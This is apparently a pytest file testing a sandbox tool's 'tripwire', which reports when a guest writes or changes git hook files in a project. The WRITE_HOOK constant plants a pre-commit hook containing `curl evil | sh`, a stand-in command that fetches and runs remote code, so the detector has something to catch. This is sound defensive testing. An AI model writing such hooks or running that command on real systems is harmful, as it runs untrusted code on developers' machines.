"""`mariner exec` reports, once and after the command returned, a change the guest made to a
project file the host runs (mariner_dev/tripwire.py), through the agent and without it."""

from __future__ import annotations

import os

import pytest

from support.fixtures import make_project, run_mariner

WRITE_HOOK = ("printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit "
              "&& chmod +x .git/hooks/pre-commit && echo written")


@pytest.fixture
def repo_project(guest, remote_isolation):
    """A fresh project with a .git directory the guest account can write, its tripwire
    recorded by `mariner trust --yes` (what `init` or the first `up` does)."""
    proj = make_project(guest, remote_isolation.env())
    hooks = proj.dir / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (proj.dir / ".githooks").mkdir()
    (proj.dir / ".git" / "config").write_text("[core]\n\thooksPath = .githooks\n")
    for path in (proj.dir / ".git", hooks, proj.dir / ".githooks"):
        os.chmod(path, 0o777)
    os.chmod(proj.dir / ".git" / "config", 0o666)
    trust = run_mariner("trust", "--yes", cwd=proj.dir)
    assert trust.returncode == 0, trust.stderr
    return proj


def _tripwire_lines(stderr: bytes) -> list[str]:
    return [line for line in stderr.decode().splitlines() if line.startswith("mariner: tripwire:")]


@pytest.mark.parametrize("agent", ["require", "off"])
def test_a_hook_written_by_the_guest_is_reported_after_that_exec_once(repo_project, agent):
    env = {"MARINER_AGENT": agent}
    first = run_mariner("exec", "--", "sh", "-c", WRITE_HOOK + "; exit 3", cwd=repo_project.dir,
                        env=env)
    assert (first.returncode, first.stdout) == (3, b"written\n"), first.stderr
    lines = _tripwire_lines(first.stderr)
    assert len(lines) == 1, first.stderr
    assert ".git/hooks/pre-commit is new and executable (git runs these hooks)" in lines[0]
    assert f"review {repo_project.dir}/.git/hooks/pre-commit" in lines[0]
    assert "mariner trust" in lines[0]
    # After the command's own output: the report comes last on stderr.
    assert first.stderr.decode().rstrip().splitlines()[-1] == lines[0]

    again = run_mariner("exec", "--", "true", cwd=repo_project.dir, env=env)
    assert again.returncode == 0 and _tripwire_lines(again.stderr) == [], again.stderr

    # The hooks directory core.hooksPath names is watched too.
    via_path = run_mariner("exec", "--", "sh", "-c", "echo x > .githooks/post-checkout",
                           cwd=repo_project.dir, env=env)
    assert [line.split(": ", 2)[2].split(" (")[0] for line in _tripwire_lines(via_path.stderr)] \
        == [".githooks/post-checkout is new"], via_path.stderr

    trust = run_mariner("trust", "--yes", cwd=repo_project.dir)
    assert trust.returncode == 0, trust.stderr
    assert ".git/hooks/pre-commit is new and executable" in trust.stdout.decode()
    assert ".githooks/post-checkout is new" in trust.stdout.decode()
    after = run_mariner("exec", "--", "sh", "-c", "echo more >> .githooks/post-checkout",
                        cwd=repo_project.dir, env=env)
    assert [line.split(": ", 2)[2].split(" (")[0] for line in _tripwire_lines(after.stderr)] \
        == [".githooks/post-checkout was changed"], after.stderr
    quiet = run_mariner("exec", "--", "true", cwd=repo_project.dir, env=env)
    assert _tripwire_lines(quiet.stderr) == []


@pytest.mark.parametrize("agent", ["require", "off"])
def test_shell_reports_a_hook_the_guest_wrote_once_after_it_returns(repo_project, agent):
    """`mariner shell` (a PTY session) reports as exec does, after the session ended."""
    env = {"MARINER_AGENT": agent}
    first = run_mariner("shell", "--", WRITE_HOOK, cwd=repo_project.dir, env=env)
    assert first.returncode == 0, first.stderr
    assert b"written" in first.stdout
    lines = _tripwire_lines(first.stderr)
    assert len(lines) == 1 and ".git/hooks/pre-commit is new and executable" in lines[0], \
        first.stderr
    assert first.stderr.decode().rstrip().splitlines()[-1] == lines[0]
    again = run_mariner("shell", "--", "true", cwd=repo_project.dir, env=env)
    assert again.returncode == 0 and _tripwire_lines(again.stderr) == [], again.stderr
